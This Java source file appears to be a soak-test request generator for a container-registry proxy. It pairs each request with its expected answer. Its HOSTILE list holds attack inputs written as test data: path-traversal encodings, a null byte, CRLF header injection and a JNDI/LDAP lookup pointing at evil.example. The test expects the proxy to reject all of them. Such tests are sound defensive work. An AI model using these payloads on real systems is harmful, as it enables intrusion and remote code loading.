package io.registryfacade.benchmarks.soak;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.Base64;
import java.util.List;
import java.util.Random;

/** Requests of every kind, each with its right answer. */
final class Mix {
    private static final List<String> BAD_NAMES = List.of(
            "/v2/redirected/App/manifests/v1",
            "/v2/redirected/_app/manifests/v1",
            "/v2/redirected/a.-b/manifests/v1",
            "/v2/redirected/app/blobs/sha256:abc",
            "/v2/closed/" + "a/".repeat(200) + "a/manifests/v1",
            "/v2/closed/app/tags/list?n=-1");
    private static final List<String> BAD_TAGS =
            List.of("/v2/redirected/app/manifests/-v1", "/v2/redirected/app/manifests/" + "a".repeat(129));
    private static final List<String> HOSTILE = List.of(
            "/v2/redirected/../other/manifests/v1",
            "/v2/redirected/%2e%2e/other/manifests/v1",
            "/v2/redirected/%252e%252e/other/manifests/v1",
            "/v2/redirected%2f..%2fother/manifests/v1",
            "/v2/redirected/%c0%ae%c0%ae/other/manifests/v1",
            "/v2/redirected/app/manifests/v1;jsessionid=1",
            "/v2/redirected/..;a=b/other/manifests/v1",
            "/v2//redirected/app/manifests/v1",
            "/v2/redirected/..\\other/manifests/v1",
            "/v2/redirected/app/manifests/v1%00",
            "/v2/redirected/app/manifests/v1%0aLocation:%20https://evil.example",
            "/v2/redirected/app/manifests/${jndi:ldap://evil.example/a}",
            "/v2/https://evil.example/manifests/v1");
    private static final String BAD_REQUEST = "GET /v2/redirected/app/mani";

    private final Random chance;
    private final Registries registries;
    private final Generations generations;
    private final String host;

    Mix(long seed, Registries registries, Generations generations, int port) {
        this.chance = new Random(seed);
        this.registries = registries;
        this.generations = generations;
        this.host = "localhost:" + port;
    }

    synchronized Asked next(Kind kind) {
        return switch (kind) {
            case REDIRECTED_MANIFEST -> redirected("manifests/" + Stock.tag(anyImage()));
            case REDIRECTED_BLOB -> redirected("blobs/" + Stock.digest(anyImage()));
            case ROUTE_THAT_IS_RELOADED ->
                get(
                        "/v2/reloaded/app/manifests/v1",
                        generations.notBefore(registries.open().url() + "/v2/generation-", "/app/manifests/v1"));
            case MANIFEST_AT_HAND -> manifest("closed", chance.nextInt(Stock.POPULAR), true);
            case MANIFEST_BY_DIGEST -> manifest(either("closed", "plain"), anyImage(), true);
            case MANIFEST_BY_TAG -> manifest(either("closed", "plain"), anyImage(), false);
            case MANIFEST_OF_A_RELOADED_REGISTRY -> manifest("changing", anyImage(), chance.nextBoolean());
            case MANIFEST_OF_TWO_REGISTRIES -> manifest("two", anyImage(), chance.nextBoolean());
            case TAG_LIST -> tagList(either("closed", "plain"));
            case LOCATION_OF_A_BLOB ->
                get(
                        "/v2/closed/app/blobs/" + Stock.LAYER_DIGEST,
                        Expectation.location(StandIn.location(Stock.LAYER_DIGEST)));
            case LAYER_THAT_PASSES_THROUGH -> layer(Stock.LAYER_DIGEST, Expectation.body(Stock.LAYER_DIGEST));
            case LAYER_THAT_BREAKS_OFF ->
                layer(Stock.BROKEN_LAYER_DIGEST, Expectation.status(200).cutShort());
            case TOKEN_OF_AN_ACCOUNT -> token(StandIn.BASIC, 200);
            case TOKEN_FOR_A_WRONG_PASSWORD -> token(wrongPassword(), 401);
            case PULL_WITH_A_TOKEN -> withToken(anyImage());
            case PULL_WITHOUT_A_TOKEN -> withoutToken();
            case NOT_SERVED -> get("/v2/other/app/manifests/v1", Expectation.status(403));
            case BAD_NAME -> badName();
            case WRONG_METHOD -> wrongMethod();
            case HOSTILE_TARGET -> get(one(HOSTILE), Expectation.status(400));
            case OTHER_HOST ->
                new Asked(wire("GET", "/v2/redirected/app/manifests/v1", "evil.example", ""), Expectation.status(421));
            case AT_THE_FAULTY_REGISTRY -> lookUp("faulty");
            case AT_THE_REGISTRY_OF_DYING_CONNECTIONS -> lookUp("dying");
            case READING_SLOWLY -> layer(Stock.LONG_LAYER_DIGEST, Expectation.body(Stock.LONG_LAYER_DIGEST));
            case LEAVING_IN_A_LAYER ->
                layer(Stock.LONG_LAYER_DIGEST, Expectation.status(200).cutShort());
            case LEAVING_IN_A_HEAD -> new Asked(BAD_REQUEST, Expectation.status(0));
            case LEAVING_BEFORE_THE_ANSWER -> leaving();
        };
    }

    private int anyImage() {
        return chance.nextInt(Stock.IMAGES);
    }

    private String either(String a, String b) {
        return chance.nextBoolean() ? a : b;
    }

    private String one(List<String> all) {
        return all.get(chance.nextInt(all.size()));
    }

    private Asked redirected(String what) {
        return get(
                "/v2/redirected/app/" + what,
                Expectation.location(registries.open().url() + "/v2/my-org/app/" + what));
    }

    private Asked manifest(String route, int image, boolean byDigest) {
        String digest = Stock.digest(image);
        String path = "/v2/" + route + "/app/manifests/" + (byDigest ? digest : Stock.tag(image));
        return chance.nextInt(4) == 0
                ? new Asked(
                        wire("HEAD", path, host, ""), Expectation.status(200).with("Docker-Content-Digest", digest))
                : get(path, Expectation.body(digest));
    }

    private Asked tagList(String route) {
        String list = Stock.tagList(route + "/app");
        return get("/v2/" + route + "/app/tags/list", Expectation.body(Stock.digest(list.getBytes(UTF_8))));
    }

    private Asked layer(String digest, Expectation expected) {
        return get("/v2/passing/app/blobs/" + digest, expected);
    }

    private Asked token(String authorization, int status) {
        String path = "/v2/token?service=" + host + "&scope=" + Grants.scope("accounts/app");
        return new Asked(
                wire("GET", path, host, "Authorization: " + authorization + "\r\n"), Expectation.status(status));
    }

    /** Of another user each time, because a user's wrong passwords are limited. */
    private String wrongPassword() {
        String login = "user-" + chance.nextLong() + ":wrong";
        return "Basic " + Base64.getEncoder().encodeToString(login.getBytes(UTF_8));
    }

    private Asked badName() {
        return chance.nextInt(4) == 0
                ? get(one(BAD_TAGS), Expectation.status(404))
                : get(one(BAD_NAMES), Expectation.status(400));
    }

    private Asked withToken(int image) {
        String token = "Authorization: Bearer " + Grants.token(Grants.scope("my-org/app")) + "\r\n";
        return new Asked(
                wire("GET", "/v2/accounts/app/manifests/" + Stock.tag(image), host, token),
                Expectation.body(Stock.digest(image)));
    }

    private Asked withoutToken() {
        String challenge = "Bearer realm=\"http://%s/v2/token\",service=\"%s\",scope=\"%s\""
                .formatted(host, host, Grants.scope("accounts/app"));
        return get("/v2/accounts/app/manifests/v1", Expectation.status(401).with("WWW-Authenticate", challenge));
    }

    private Asked wrongMethod() {
        String nothing = "Content-Length: 0\r\n";
        return switch (chance.nextInt(3)) {
            case 0 -> new Asked(wire("POST", "/v2/", host, nothing), Expectation.status(405));
            case 1 -> new Asked(wire("PUT", "/v2/redirected/app/manifests/v1", host, nothing), Expectation.status(403));
            default -> new Asked(wire("DELETE", "/v2/closed/app/manifests/v1", host, ""), Expectation.status(403));
        };
    }

    /** What is never at hand, because it has to be looked up each time. */
    private Asked lookUp(String route) {
        int image = anyImage();
        return chance.nextBoolean()
                ? get(
                        "/v2/" + route + "/app/tags/list",
                        Expectation.body(
                                Stock.digest(Stock.tagList(route + "/app").getBytes(UTF_8))))
                : get("/v2/" + route + "/app/manifests/" + Stock.tag(image), Expectation.body(Stock.digest(image)));
    }

    private Asked leaving() {
        return chance.nextBoolean()
                ? get("/v2/faulty/app/manifests/" + Stock.tag(anyImage()), Expectation.status(0))
                : layer(Stock.LONG_LAYER_DIGEST, Expectation.status(0));
    }

    private Asked get(String path, Expected expected) {
        return new Asked(wire("GET", path, host, ""), expected);
    }

    private static String wire(String method, String target, String host, String more) {
        return method + " " + target + " HTTP/1.1\r\nHost: " + host + "\r\nAccept: " + Stock.MEDIA_TYPE + "\r\n" + more
                + "\r\n";
    }
}
